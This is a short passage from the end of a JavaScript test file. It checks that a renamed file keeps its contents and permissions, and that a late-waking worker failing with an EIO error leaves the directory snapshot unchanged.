    expect(tree['renamed/here/name.txt']).toEqual({ type: 'file', sha: sha256('moving\n'), mode: 0o600 });

    // The first attempt waking up afterwards (a worker that was only slow) removes only what is its own.
    wakeUp(errno('EIO'));
    expect(await zombie).toBeInstanceOf(Error);
    expect(await snapshot(root)).toEqual(tree);
  });
});
